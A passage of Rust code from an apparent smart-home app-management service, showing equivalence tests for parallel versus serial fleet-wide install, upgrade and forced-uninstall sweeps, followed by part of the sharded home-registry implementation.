    for ((pid, preport), (sid, sreport)) in outcome.removed.iter().zip(&ref_removed) {
        assert_eq!(pid.raw(), sid.raw());
        assert_eq!(preport.removed_rules, sreport.removed_rules);
        assert_eq!(preport.retired_threats, sreport.retired_threats);
    }
    assert!(outcome.removed.windows(2).all(|w| w[0].0 < w[1].0));
    assert!(!parallel.store().has_app("OffApp"));

    // Both fleets converged to the same end state.
    for (&pid, &sid) in parallel.home_ids().iter().zip(&serial_ids) {
        assert_eq!(
            parallel.with_home(pid, |h| h.installed_apps()).unwrap(),
            serial.with_home(sid, |h| h.installed_apps()).unwrap()
        );
    }
}

#[test]
fn parallel_sweeps_skip_poisoned_shards_and_keep_order() {
    force_parallel();
    use std::sync::Arc;

    let fleet = Arc::new(Fleet::builder(RuleStore::shared()).shards(2).build());
    let a = fleet.create_home(); // shard 0
    let b = fleet.create_home(); // shard 1
    fleet.install_app(a, ON_APP, "OnApp", None).unwrap();
    fleet.install_app(b, ON_APP, "OnApp", None).unwrap();

    let doomed = fleet.clone();
    std::thread::spawn(move || {
        let _ = doomed.with_home_mut(a, |_| panic!("home handler dies"));
    })
    .join()
    .unwrap_err();

    let v2 = format!("{ON_APP}// v2\n");
    let rollout = fleet.propagate_upgrade(&v2, "OnApp").unwrap();
    assert_eq!(rollout.poisoned_shards, 1);
    assert_eq!(rollout.upgraded, vec![b]);

    let outcome = fleet.force_uninstall("OnApp");
    assert_eq!(outcome.poisoned_shards, 1);
    assert_eq!(
        outcome
            .removed
            .iter()
            .map(|(id, _)| *id)
            .collect::<Vec<_>>(),
        vec![b]
    );
    assert!(outcome.store_retired);
}
