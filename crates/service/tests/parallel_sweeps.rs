//! Queue-dispatched fleet sweeps vs. the serial path.
//!
//! `install_many`, `propagate_upgrade` and `force_uninstall` decompose
//! into per-shard units dispatched by `hg-api`'s work-queue executor (one
//! dedicated worker per shard). These tests prepare identically-populated
//! fleets and assert the executor-dispatched reports are **identical** to
//! a serial per-home replay — ordered by `HomeId` — including
//! pending/dirty reports, skip counts, and store-retirement side effects.

use hg_api::{ExecConfig, FleetExec};
use hg_service::{Fleet, HomeId, RuleStore};
use std::sync::Arc;

const ON_APP: &str = r#"
definition(name: "OnApp")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.on() }
"#;

const OFF_APP: &str = r#"
definition(name: "OffApp")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.off() }
"#;

fn executor(fleet: Arc<Fleet>) -> Arc<FleetExec> {
    FleetExec::start(fleet, ExecConfig::default())
}

/// A fleet of `homes` homes over `shards` shards, every home running
/// OnApp, every third home additionally running the conflicting OffApp.
fn populated(homes: usize, shards: usize) -> (Arc<Fleet>, Vec<HomeId>) {
    let fleet = Arc::new(Fleet::builder(RuleStore::shared()).shards(shards).build());
    let ids: Vec<HomeId> = (0..homes).map(|_| fleet.create_home().unwrap()).collect();
    for result in fleet.install_many(&ids, ON_APP, "OnApp", None).unwrap() {
        assert!(result.1.unwrap().installed);
    }
    for id in ids.iter().step_by(3) {
        fleet
            .install_app_forced(*id, OFF_APP, "OffApp", None)
            .unwrap();
    }
    (fleet, ids)
}

#[test]
fn dispatched_install_many_matches_serial_install_loop_in_request_order() {
    let parallel = Arc::new(Fleet::builder(RuleStore::shared()).shards(8).build());
    let serial = Fleet::builder(RuleStore::shared()).shards(8).build();
    let exec = executor(parallel.clone());
    let p_ids: Vec<HomeId> = (0..64).map(|_| parallel.create_home().unwrap()).collect();
    let s_ids: Vec<HomeId> = (0..64).map(|_| serial.create_home().unwrap()).collect();

    // Mixed request: every home once, one duplicate (second attempt must
    // report AlreadyInstalled in both paths), deliberately shuffled order.
    let mut request: Vec<HomeId> = p_ids.iter().rev().copied().collect();
    request.push(p_ids[5]);
    let mut serial_request: Vec<HomeId> = s_ids.iter().rev().copied().collect();
    serial_request.push(s_ids[5]);

    let outcomes = exec
        .install_many(request.clone(), ON_APP.to_string(), "OnApp".to_string())
        .expect("store queue accepts the coordinator")
        .expect("source extracts");
    serial.store().ingest(ON_APP, "OnApp").unwrap();
    let reference: Vec<_> = serial_request
        .iter()
        .map(|&id| (id, serial.install_app(id, ON_APP, "OnApp", None)))
        .collect();

    assert_eq!(outcomes.len(), reference.len());
    for (pos, ((pid, pres), (sid, sres))) in outcomes.iter().zip(&reference).enumerate() {
        assert_eq!(request[pos], *pid, "outcomes must keep request order");
        assert_eq!(pid.raw(), sid.raw());
        match (pres, sres) {
            (Ok(a), Ok(b)) => {
                assert_eq!(a.installed, b.installed, "position {pos}");
                assert_eq!(a.threats, b.threats, "position {pos}");
            }
            (Err(a), Err(b)) => assert_eq!(format!("{a}"), format!("{b}"), "position {pos}"),
            (a, b) => panic!("position {pos}: {a:?} vs {b:?}"),
        }
    }

    // A broken source installs nowhere, through the queues too.
    let broken = exec
        .install_many(
            request,
            "def installed() {".to_string(),
            "Broken".to_string(),
        )
        .unwrap();
    assert!(broken.is_err(), "extraction failure is typed, not partial");
}

#[test]
fn dispatched_propagate_upgrade_matches_serial_per_home_replay() {
    let (parallel, _) = populated(48, 8);
    let (serial, serial_ids) = populated(48, 8);
    let exec = executor(parallel.clone());

    let v2 = format!("{ON_APP}// v2\n");
    let rollout = exec
        .propagate_upgrade(v2.clone(), "OnApp".to_string())
        .unwrap()
        .unwrap();

    // Serial reference: walk every home in id order through the same
    // upgrade (publishing first, exactly as the rollout does).
    serial.store().ingest_as(&v2, "OnApp").unwrap();
    let mut ref_upgraded = Vec::new();
    let mut ref_pending = Vec::new();
    let mut ref_skipped = 0usize;
    for &id in &serial_ids {
        let installed = serial.with_home(id, |h| h.is_installed("OnApp")).unwrap();
        if !installed {
            ref_skipped += 1;
            continue;
        }
        let report = serial.upgrade_app(id, &v2, "OnApp", None).unwrap();
        if report.installed {
            ref_upgraded.push(id);
        } else {
            ref_pending.push((id, report));
        }
    }

    assert_eq!(rollout.upgraded, ref_upgraded, "clean homes diverge");
    assert_eq!(rollout.skipped, ref_skipped);
    assert!(rollout.failed.is_empty());
    assert_eq!(rollout.poisoned_shards, 0);
    assert_eq!(
        rollout.pending.len(),
        ref_pending.len(),
        "pending homes diverge"
    );
    for ((pid, preport), (sid, sreport)) in rollout.pending.iter().zip(&ref_pending) {
        assert_eq!(pid.raw(), sid.raw());
        assert_eq!(preport.threats, sreport.threats);
        assert_eq!(preport.replaces, sreport.replaces);
    }

    // Deterministic merge: every report vector is in ascending id order.
    assert!(rollout.upgraded.windows(2).all(|w| w[0] < w[1]));
    assert!(rollout.pending.windows(2).all(|w| w[0].0 < w[1].0));

    // The dispatched rollout also equals the fleet's own serial shard
    // walk, on a third identical fleet.
    let (inline, _) = populated(48, 8);
    let inline_rollout = inline.propagate_upgrade(&v2, "OnApp").unwrap();
    assert_eq!(
        inline_rollout
            .upgraded
            .iter()
            .map(|id| id.raw())
            .collect::<Vec<_>>(),
        rollout
            .upgraded
            .iter()
            .map(|id| id.raw())
            .collect::<Vec<_>>()
    );
    assert_eq!(inline_rollout.skipped, rollout.skipped);

    // Re-running the rollout is deterministic as well.
    let v3 = format!("{ON_APP}// v3\n");
    let again = exec
        .propagate_upgrade(v3, "OnApp".to_string())
        .unwrap()
        .unwrap();
    assert_eq!(again.upgraded, rollout.upgraded);
    assert_eq!(
        again.pending.iter().map(|(id, _)| *id).collect::<Vec<_>>(),
        rollout
            .pending
            .iter()
            .map(|(id, _)| *id)
            .collect::<Vec<_>>()
    );
}

#[test]
fn streamed_rollout_parts_merge_to_the_synchronous_result() {
    let (fleet, _) = populated(36, 6);
    let (reference_fleet, _) = populated(36, 6);
    let exec = executor(fleet.clone());

    let v2 = format!("{ON_APP}// v2\n");
    let mut stream = exec
        .begin_upgrade(v2.clone(), "OnApp".to_string())
        .unwrap()
        .unwrap();
    let mut seen_shards = Vec::new();
    while let Some((shard, _part)) = stream.next_part() {
        seen_shards.push(shard);
    }
    // Every shard reported exactly once (arrival order is scheduling-
    // dependent, the set is not).
    seen_shards.sort_unstable();
    assert_eq!(seen_shards, (0..6).collect::<Vec<_>>());
    let merged = stream.finish();

    let reference = reference_fleet.propagate_upgrade(&v2, "OnApp").unwrap();
    assert_eq!(
        merged
            .upgraded
            .iter()
            .map(|id| id.raw())
            .collect::<Vec<_>>(),
        reference
            .upgraded
            .iter()
            .map(|id| id.raw())
            .collect::<Vec<_>>(),
        "streamed merge must equal the synchronous rollout"
    );
    assert_eq!(merged.skipped, reference.skipped);
    assert_eq!(
        merged
            .pending
            .iter()
            .map(|(id, _)| id.raw())
            .collect::<Vec<_>>(),
        reference
            .pending
            .iter()
            .map(|(id, _)| id.raw())
            .collect::<Vec<_>>()
    );
}

#[test]
fn dispatched_force_uninstall_matches_serial_per_home_replay() {
    let (parallel, _) = populated(48, 8);
    let (serial, serial_ids) = populated(48, 8);
    let exec = executor(parallel.clone());

    let outcome = exec.force_uninstall("OffApp".to_string()).unwrap();

    let mut ref_removed = Vec::new();
    let mut ref_skipped = 0usize;
    for &id in &serial_ids {
        let installed = serial.with_home(id, |h| h.is_installed("OffApp")).unwrap();
        if !installed {
            ref_skipped += 1;
            continue;
        }
        ref_removed.push((id, serial.uninstall_app(id, "OffApp").unwrap()));
    }
    serial.store().retire_app("OffApp");

    assert_eq!(outcome.removed.len(), ref_removed.len());
    assert_eq!(outcome.skipped, ref_skipped);
    assert!(outcome.failed.is_empty());
    assert!(outcome.store_retired);
    for ((pid, preport), (sid, sreport)) in outcome.removed.iter().zip(&ref_removed) {
        assert_eq!(pid.raw(), sid.raw());
        assert_eq!(preport.removed_rules, sreport.removed_rules);
        assert_eq!(preport.retired_threats, sreport.retired_threats);
    }
    assert!(outcome.removed.windows(2).all(|w| w[0].0 < w[1].0));
    assert!(!parallel.store().has_app("OffApp"));

    // Both fleets converged to the same end state.
    for (&pid, &sid) in parallel.home_ids().iter().zip(&serial_ids) {
        assert_eq!(
            parallel.with_home(pid, |h| h.installed_apps()).unwrap(),
            serial.with_home(sid, |h| h.installed_apps()).unwrap()
        );
    }
}

#[test]
fn dispatched_sweeps_skip_poisoned_shards_and_keep_order() {
    let fleet = Arc::new(Fleet::builder(RuleStore::shared()).shards(2).build());
    let a = fleet.create_home().unwrap(); // shard 0
    let b = fleet.create_home().unwrap(); // shard 1
    fleet.install_app(a, ON_APP, "OnApp", None).unwrap();
    fleet.install_app(b, ON_APP, "OnApp", None).unwrap();

    let doomed = fleet.clone();
    std::thread::spawn(move || {
        let _ = doomed.with_home_mut(a, |_| panic!("home handler dies"));
    })
    .join()
    .unwrap_err();

    let exec = executor(fleet.clone());
    let v2 = format!("{ON_APP}// v2\n");
    let rollout = exec
        .propagate_upgrade(v2, "OnApp".to_string())
        .unwrap()
        .unwrap();
    assert_eq!(rollout.poisoned_shards, 1);
    assert_eq!(rollout.upgraded, vec![b]);

    let outcome = exec.force_uninstall("OnApp".to_string()).unwrap();
    assert_eq!(outcome.poisoned_shards, 1);
    assert_eq!(
        outcome
            .removed
            .iter()
            .map(|(id, _)| *id)
            .collect::<Vec<_>>(),
        vec![b]
    );
    assert!(outcome.store_retired);
}
