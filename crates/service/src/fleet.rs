//! The sharded concurrent home registry.
//!
//! A [`Fleet`] routes every operation through a [`HomeId`] to one of N
//! shards, each a `RwLock<BTreeMap<HomeId, Home>>`. There is deliberately
//! no global lock: two threads driving installs into different shards
//! never contend, and read-side operations (`with_home`, `len`) share
//! each shard's lock. `HomeId`s are dense (`AtomicU64`) and route by
//! `id % shards`, so consecutive creations spread round-robin across the
//! shards — a thread working a contiguous id range touches all of them.

use hg_config::ConfigInfo;
use hg_persist::FleetSnapshot;
use homeguard_core::{
    HgError, Home, HomeBuilder, HomeId, HomeState, InstallReport, RuleStore, UninstallReport,
};
use std::collections::BTreeMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, RwLock};

type Shard = RwLock<BTreeMap<HomeId, Home>>;

/// Process-global sweep-parallelism override (see
/// [`override_sweep_parallelism`]): `0` = auto, [`SWEEP_FORCED_ON`] /
/// [`SWEEP_FORCED_OFF`] pin the decision.
static SWEEP_MODE: std::sync::atomic::AtomicU8 = std::sync::atomic::AtomicU8::new(0);
const SWEEP_FORCED_ON: u8 = 1;
const SWEEP_FORCED_OFF: u8 = 2;

/// Pins whether fleet sweeps fan out worker threads, process-wide:
/// `Some(true)` always threads, `Some(false)` always inline, `None`
/// returns to the automatic choice (hardware parallelism, or the
/// `HG_PARALLEL_SWEEPS` env var read once at first sweep). Both paths
/// produce identical reports; this exists so equivalence tests can
/// exercise the threaded fan-out on single-core hosts without touching
/// the process environment (concurrent `set_var`/`getenv` is undefined
/// behavior on common libc implementations).
pub fn override_sweep_parallelism(forced: Option<bool>) {
    let mode = match forced {
        Some(true) => SWEEP_FORCED_ON,
        Some(false) => SWEEP_FORCED_OFF,
        None => 0,
    };
    SWEEP_MODE.store(mode, std::sync::atomic::Ordering::Relaxed);
}

/// Per-home outcomes of a bulk operation: one entry per requested home, in
/// request order.
pub type BulkOutcomes = Vec<(HomeId, Result<InstallReport, HgError>)>;

/// Builds a [`Fleet`]: shard width and the home template.
pub struct FleetBuilder {
    store: Arc<RuleStore>,
    shards: usize,
    template: HomeBuilder,
}

impl FleetBuilder {
    /// A builder with 16 shards and deployment-default homes.
    pub fn new(store: Arc<RuleStore>) -> FleetBuilder {
        FleetBuilder {
            template: HomeBuilder::new(store.clone()),
            store,
            shards: 16,
        }
    }

    /// Sets the shard count (clamped to at least 1). More shards means
    /// less write contention between homes; the right number is roughly
    /// the expected thread parallelism.
    pub fn shards(mut self, n: usize) -> FleetBuilder {
        self.shards = n.max(1);
        self
    }

    /// Customizes the template every [`Fleet::create_home`] builds from
    /// (modes, unification policy, handling policies, …).
    pub fn home_defaults(
        mut self,
        customize: impl FnOnce(HomeBuilder) -> HomeBuilder,
    ) -> FleetBuilder {
        self.template = customize(self.template);
        self
    }

    /// Builds the fleet.
    pub fn build(self) -> Fleet {
        Fleet {
            store: self.store,
            shards: (0..self.shards)
                .map(|_| RwLock::new(BTreeMap::new()))
                .collect(),
            next_id: AtomicU64::new(0),
            template: self.template,
        }
    }
}

/// The HomeGuard service: a concurrent registry of per-home sessions over
/// one shared rule store. `Send + Sync` throughout — clone an
/// `Arc<Fleet>` into as many threads as you like.
pub struct Fleet {
    store: Arc<RuleStore>,
    shards: Box<[Shard]>,
    next_id: AtomicU64,
    template: HomeBuilder,
}

/// The outcome of a fleet-wide upgrade rollout.
#[derive(Debug)]
pub struct UpgradeRollout {
    /// The app rolled out.
    pub app: String,
    /// Homes where the upgrade was clean and auto-confirmed.
    pub upgraded: Vec<HomeId>,
    /// Homes where the upgrade surfaced interference: the old version is
    /// still running, and the report awaits a per-home
    /// [`Fleet::confirm_install`].
    pub pending: Vec<(HomeId, InstallReport)>,
    /// Homes skipped because the app is not installed there.
    pub skipped: usize,
    /// Per-home upgrade failures (the sweep continues past them).
    pub failed: Vec<(HomeId, HgError)>,
    /// Shards skipped because their lock was poisoned — their homes were
    /// not re-checked and still run the old version.
    pub poisoned_shards: usize,
}

/// One shard's share of a parallel fleet sweep (see
/// [`Fleet::propagate_upgrade`] / [`Fleet::force_uninstall`]).
enum ShardSweep<R> {
    /// The shard lock was poisoned; its homes were not visited.
    Poisoned,
    /// Per-home results, in the shard's ascending `HomeId` order.
    Outcomes(Vec<R>),
}

/// One home's outcome within a parallel sweep. `R` is the per-home report
/// type (boxed: most sweep outcomes are `Skipped`, and a large inline
/// report would bloat every variant).
enum SweepOutcome<R> {
    /// The app is not installed in this home.
    Skipped,
    /// The operation completed without a report to deliver.
    Clean(HomeId),
    /// The operation produced a per-home report.
    Report(HomeId, Box<R>),
    /// The operation failed; the sweep continued past it.
    Failed(HomeId, HgError),
}

/// The outcome of a fleet-wide forced uninstall (a store-pulled app).
#[derive(Debug)]
pub struct ForceUninstall {
    /// The app removed.
    pub app: String,
    /// Per-home retraction reports for every home that ran the app.
    pub removed: Vec<(HomeId, UninstallReport)>,
    /// Homes that never had the app installed.
    pub skipped: usize,
    /// Per-home failures (the sweep continues past them).
    pub failed: Vec<(HomeId, HgError)>,
    /// Shards skipped because their lock was poisoned — their homes still
    /// run the app.
    pub poisoned_shards: usize,
    /// Whether the store database carried the app (and retired it).
    pub store_retired: bool,
}

impl Fleet {
    /// A fleet with deployment defaults over `store`.
    pub fn new(store: Arc<RuleStore>) -> Fleet {
        Fleet::builder(store).build()
    }

    /// A builder for a customized fleet.
    pub fn builder(store: Arc<RuleStore>) -> FleetBuilder {
        FleetBuilder::new(store)
    }

    /// The shared rule store every home installs from.
    pub fn store(&self) -> &Arc<RuleStore> {
        &self.store
    }

    /// Number of shards.
    pub fn shard_count(&self) -> usize {
        self.shards.len()
    }

    /// Number of registered homes. Counts poisoned shards too: a panic
    /// inside a home handler can leave that *home's* state suspect (which
    /// is why `with_home*` report [`HgError::Poisoned`]), but the shard
    /// map itself only mutates in `create_home`/`remove_home` outside any
    /// user code, so registry-level enumeration recovers the guard.
    pub fn len(&self) -> usize {
        self.shards
            .iter()
            .map(|s| {
                s.read()
                    .unwrap_or_else(std::sync::PoisonError::into_inner)
                    .len()
            })
            .sum()
    }

    /// Whether no home is registered.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Every registered home id, ascending (poisoned shards included — see
    /// [`Fleet::len`]).
    pub fn home_ids(&self) -> Vec<HomeId> {
        let mut ids: Vec<HomeId> = self
            .shards
            .iter()
            .flat_map(|s| {
                s.read()
                    .unwrap_or_else(std::sync::PoisonError::into_inner)
                    .keys()
                    .copied()
                    .collect::<Vec<_>>()
            })
            .collect();
        ids.sort();
        ids
    }

    fn shard_index(&self, id: HomeId) -> usize {
        (id.raw() % self.shards.len() as u64) as usize
    }

    /// Whether fleet sweeps fan out worker threads. Per-shard fan-out only
    /// pays when the machine can actually run workers concurrently; on a
    /// single hardware thread the sweep stays on the (identical-result)
    /// inline path instead of paying spawn overhead per shard. The
    /// decision can be pinned either way: operators via the
    /// `HG_PARALLEL_SWEEPS` env var (`1`/`0`, read once at first sweep),
    /// tests via [`override_sweep_parallelism`] (an atomic, not the
    /// environment — concurrently mutating the env from test threads is
    /// undefined behavior on glibc).
    fn sweeps_parallel(&self) -> bool {
        match SWEEP_MODE.load(Ordering::Relaxed) {
            SWEEP_FORCED_ON => return true,
            SWEEP_FORCED_OFF => return false,
            _ => {}
        }
        static FROM_ENV: std::sync::OnceLock<Option<bool>> = std::sync::OnceLock::new();
        let forced = FROM_ENV.get_or_init(|| {
            std::env::var("HG_PARALLEL_SWEEPS")
                .ok()
                // Set-but-empty means unset (init scripts export empty
                // placeholders), not "forced serial".
                .filter(|v| !v.is_empty())
                .map(|v| v != "0")
        });
        if let Some(forced) = forced {
            return *forced;
        }
        self.shards.len() > 1
            && std::thread::available_parallelism()
                .map(|n| n.get() > 1)
                .unwrap_or(false)
    }

    fn shard(&self, id: HomeId) -> &Shard {
        &self.shards[self.shard_index(id)]
    }

    /// Registers a new home built from the fleet's template and returns
    /// its handle.
    pub fn create_home(&self) -> HomeId {
        self.create_home_with(|builder| builder)
    }

    /// Registers a new home, customizing the template first (e.g. per-home
    /// modes or handling policies).
    ///
    /// A poisoned shard quarantines its homes (`with_home*` report
    /// [`HgError::Poisoned`]), so placing a *new* home there would hand
    /// back a handle that is unreachable from birth. Consecutive ids route
    /// to consecutive shards, so this burns ids until one routes to a
    /// healthy shard; only when every shard is poisoned does it recover
    /// the routed shard's map (structurally intact, see [`Fleet::len`])
    /// and insert anyway.
    pub fn create_home_with(&self, customize: impl FnOnce(HomeBuilder) -> HomeBuilder) -> HomeId {
        self.place(customize(self.template.clone()).build())
    }

    /// Registers an already-built session under a fresh id (shared by
    /// `create_home_with` and `import_home`), burning ids that route to
    /// poisoned shards as documented on [`Fleet::create_home_with`].
    fn place(&self, home: Home) -> HomeId {
        let mut id = HomeId::new(self.next_id.fetch_add(1, Ordering::Relaxed));
        for _ in 0..self.shards.len() {
            match self.shard(id).write() {
                Ok(mut shard) => {
                    shard.insert(id, home);
                    return id;
                }
                Err(_) => {
                    id = HomeId::new(self.next_id.fetch_add(1, Ordering::Relaxed));
                }
            }
        }
        self.shard(id)
            .write()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
            .insert(id, home);
        id
    }

    /// Deregisters a home, dropping its session state.
    ///
    /// # Errors
    ///
    /// [`HgError::UnknownHome`]; [`HgError::Poisoned`] when the shard lock
    /// is poisoned.
    pub fn remove_home(&self, id: HomeId) -> Result<(), HgError> {
        let mut shard = self
            .shard(id)
            .write()
            .map_err(|_| HgError::Poisoned("fleet shard"))?;
        shard
            .remove(&id)
            .map(|_| ())
            .ok_or(HgError::UnknownHome(id))
    }

    /// Runs `f` with shared access to a home (other readers of the same
    /// shard proceed concurrently).
    ///
    /// # Errors
    ///
    /// [`HgError::UnknownHome`]; [`HgError::Poisoned`] when the shard lock
    /// is poisoned.
    pub fn with_home<R>(&self, id: HomeId, f: impl FnOnce(&Home) -> R) -> Result<R, HgError> {
        let shard = self
            .shard(id)
            .read()
            .map_err(|_| HgError::Poisoned("fleet shard"))?;
        shard.get(&id).map(f).ok_or(HgError::UnknownHome(id))
    }

    /// Runs `f` with exclusive access to a home. A panic inside `f`
    /// poisons only the owning shard; the rest of the fleet keeps serving,
    /// and operations on the poisoned shard report [`HgError::Poisoned`]
    /// instead of crashing their threads.
    ///
    /// # Errors
    ///
    /// [`HgError::UnknownHome`]; [`HgError::Poisoned`] when the shard lock
    /// is poisoned.
    pub fn with_home_mut<R>(
        &self,
        id: HomeId,
        f: impl FnOnce(&mut Home) -> R,
    ) -> Result<R, HgError> {
        let mut shard = self
            .shard(id)
            .write()
            .map_err(|_| HgError::Poisoned("fleet shard"))?;
        shard.get_mut(&id).map(f).ok_or(HgError::UnknownHome(id))
    }

    /// [`Home::check_install`] through the registry.
    ///
    /// # Errors
    ///
    /// Registry errors plus the session's own.
    pub fn check_install(&self, id: HomeId, app: &str) -> Result<InstallReport, HgError> {
        self.with_home(id, |home| home.check_install(app))?
    }

    /// [`Home::install_app`] through the registry: extract (served from
    /// the shared cache), check, auto-confirm only when clean.
    ///
    /// # Errors
    ///
    /// Registry errors plus the session's own.
    pub fn install_app(
        &self,
        id: HomeId,
        source: &str,
        name: &str,
        config: Option<&ConfigInfo>,
    ) -> Result<InstallReport, HgError> {
        self.with_home_mut(id, |home| home.install_app(source, name, config))?
    }

    /// [`Home::install_app_forced`] through the registry.
    ///
    /// # Errors
    ///
    /// Registry errors plus the session's own.
    pub fn install_app_forced(
        &self,
        id: HomeId,
        source: &str,
        name: &str,
        config: Option<&ConfigInfo>,
    ) -> Result<InstallReport, HgError> {
        self.with_home_mut(id, |home| home.install_app_forced(source, name, config))?
    }

    /// [`Home::confirm_install`] through the registry: the user of `id`
    /// accepted a dirty install or upgrade report.
    ///
    /// # Errors
    ///
    /// Registry errors plus the session's own staleness checks.
    pub fn confirm_install(
        &self,
        id: HomeId,
        report: InstallReport,
    ) -> Result<InstallReport, HgError> {
        self.with_home_mut(id, |home| home.confirm_install(report))?
    }

    /// [`Home::uninstall_app`] through the registry.
    ///
    /// # Errors
    ///
    /// Registry errors plus the session's own.
    pub fn uninstall_app(&self, id: HomeId, app: &str) -> Result<UninstallReport, HgError> {
        self.with_home_mut(id, |home| home.uninstall_app(app))?
    }

    /// [`Home::upgrade_app`] through the registry.
    ///
    /// # Errors
    ///
    /// Registry errors plus the session's own.
    pub fn upgrade_app(
        &self,
        id: HomeId,
        source: &str,
        name: &str,
        config: Option<&ConfigInfo>,
    ) -> Result<InstallReport, HgError> {
        self.with_home_mut(id, |home| home.upgrade_app(source, name, config))?
    }

    /// Bulk install: extracts `source` **once** and installs it into every
    /// listed home (auto-confirming where clean, exactly like
    /// [`Fleet::install_app`]). Per-home outcomes are reported
    /// individually so one home's verdict cannot abort the sweep.
    ///
    /// The sweep fans out one worker per *shard* (`std::thread::scope`):
    /// shards are independent locks, so workers never contend, while ids
    /// sharing a shard keep their request-relative order — the outcome
    /// vector is identical (in request order) to a serial sweep.
    ///
    /// # Errors
    ///
    /// [`HgError::Extract`] when the source fails extraction — nothing is
    /// installed anywhere in that case.
    pub fn install_many(
        &self,
        home_ids: &[HomeId],
        source: &str,
        name: &str,
        config: Option<&ConfigInfo>,
    ) -> Result<BulkOutcomes, HgError> {
        self.store.ingest(source, name)?;
        if !self.sweeps_parallel() {
            return Ok(home_ids
                .iter()
                .map(|&id| (id, self.install_app(id, source, name, config)))
                .collect());
        }
        let mut groups: Vec<Vec<(usize, HomeId)>> = vec![Vec::new(); self.shards.len()];
        for (pos, &id) in home_ids.iter().enumerate() {
            groups[self.shard_index(id)].push((pos, id));
        }
        let mut slots: Vec<Option<(HomeId, Result<InstallReport, HgError>)>> =
            (0..home_ids.len()).map(|_| None).collect();
        let per_worker = std::thread::scope(|scope| {
            let handles: Vec<_> = groups
                .iter()
                .filter(|group| !group.is_empty())
                .map(|group| {
                    scope.spawn(move || {
                        group
                            .iter()
                            .map(|&(pos, id)| {
                                (pos, (id, self.install_app(id, source, name, config)))
                            })
                            .collect::<Vec<_>>()
                    })
                })
                .collect();
            handles
                .into_iter()
                .map(|h| {
                    h.join()
                        .unwrap_or_else(|panic| std::panic::resume_unwind(panic))
                })
                .collect::<Vec<_>>()
        });
        for (pos, outcome) in per_worker.into_iter().flatten() {
            slots[pos] = Some(outcome);
        }
        Ok(slots
            .into_iter()
            .map(|slot| slot.expect("every requested position produced an outcome"))
            .collect())
    }

    /// Fleet-wide upgrade rollout: re-extracts the new source **once**
    /// (publishing v2 to the shared store, as a store update would), then
    /// incrementally re-checks every home that has the app installed.
    /// Clean homes are upgraded in place; homes where the new version
    /// interferes keep the old version running and their dirty report is
    /// returned for per-home confirmation. The sweep never aborts midway:
    /// per-home failures and poisoned shards are reported in the rollout
    /// so no already-upgraded or still-pending home is lost track of.
    ///
    /// # Errors
    ///
    /// [`HgError::Extract`] when the new source fails extraction;
    /// [`HgError::UpgradeRenames`] when it declares a different app name.
    /// Either way no home is touched.
    pub fn propagate_upgrade(&self, source: &str, name: &str) -> Result<UpgradeRollout, HgError> {
        // `ingest_as`, not `ingest`: a renaming submission must be refused
        // BEFORE anything lands in the shared database — a rejected
        // rollout cannot publish a new app store-wide as a side effect.
        self.store.ingest_as(source, name)?;
        let mut rollout = UpgradeRollout {
            app: name.to_string(),
            upgraded: Vec::new(),
            pending: Vec::new(),
            skipped: 0,
            failed: Vec::new(),
            poisoned_shards: 0,
        };
        // One worker per shard (shards are independent locks — the sweep's
        // serial bottleneck was never contention, just single-threading).
        // Workers return partial rollouts; the merge below is made
        // deterministic by sorting every per-home vector by `HomeId`, so a
        // parallel rollout reports exactly what a serial sweep would.
        let partials = self.sweep_shards(|id, home| {
            if !home.is_installed(name) {
                return SweepOutcome::Skipped;
            }
            match home.upgrade_app(source, name, None) {
                Ok(report) if report.installed => SweepOutcome::Clean(id),
                Ok(report) => SweepOutcome::Report(id, Box::new(report)),
                Err(error) => SweepOutcome::Failed(id, error),
            }
        });
        for partial in partials {
            match partial {
                ShardSweep::Poisoned => rollout.poisoned_shards += 1,
                ShardSweep::Outcomes(outcomes) => {
                    for outcome in outcomes {
                        match outcome {
                            SweepOutcome::Skipped => rollout.skipped += 1,
                            SweepOutcome::Clean(id) => rollout.upgraded.push(id),
                            SweepOutcome::Report(id, report) => rollout.pending.push((id, *report)),
                            SweepOutcome::Failed(id, error) => rollout.failed.push((id, error)),
                        }
                    }
                }
            }
        }
        rollout.upgraded.sort_unstable();
        rollout.pending.sort_by_key(|(id, _)| *id);
        rollout.failed.sort_by_key(|(id, _)| *id);
        Ok(rollout)
    }

    /// Runs `visit` on every home, fanning out one scoped worker per
    /// shard. Each worker takes its shard's write lock exactly as the
    /// serial sweep did — a poisoned shard is reported, never unwrapped —
    /// and homes within a shard are visited in ascending `HomeId` order
    /// (the `BTreeMap` order).
    fn sweep_shards<R: Send>(
        &self,
        visit: impl Fn(HomeId, &mut Home) -> R + Sync,
    ) -> Vec<ShardSweep<R>> {
        if !self.sweeps_parallel() {
            return self
                .shards
                .iter()
                .map(|shard| {
                    let Ok(mut shard) = shard.write() else {
                        return ShardSweep::Poisoned;
                    };
                    ShardSweep::Outcomes(
                        shard
                            .iter_mut()
                            .map(|(&id, home)| visit(id, home))
                            .collect(),
                    )
                })
                .collect();
        }
        std::thread::scope(|scope| {
            // No worker for shards with nothing to visit: a cheap read
            // pre-check classifies poisoned and empty shards inline, so a
            // sparse fleet does not pay a thread spawn per empty shard. (A
            // home registered between the pre-check and the sweep is
            // missed exactly as it would be by a serial sweep that had
            // already passed its shard.)
            let handles: Vec<_> = self
                .shards
                .iter()
                .map(|shard| {
                    match shard.read() {
                        Err(_) => return Ok(ShardSweep::Poisoned),
                        Ok(homes) if homes.is_empty() => {
                            return Ok(ShardSweep::Outcomes(Vec::new()))
                        }
                        Ok(_) => {}
                    }
                    let visit = &visit;
                    Err(scope.spawn(move || {
                        let Ok(mut shard) = shard.write() else {
                            return ShardSweep::Poisoned;
                        };
                        ShardSweep::Outcomes(
                            shard
                                .iter_mut()
                                .map(|(&id, home)| visit(id, home))
                                .collect(),
                        )
                    }))
                })
                .collect();
            handles
                .into_iter()
                .map(|settled| match settled {
                    Ok(outcome) => outcome,
                    Err(handle) => handle
                        .join()
                        .unwrap_or_else(|panic| std::panic::resume_unwind(panic)),
                })
                .collect()
        })
    }

    /// Fleet-wide forced uninstall: a store-pulled (e.g. discovered-
    /// malicious) app is retracted from **every** home running it — rules
    /// unposted, Allowed threats and mediation points retired, `Priority`
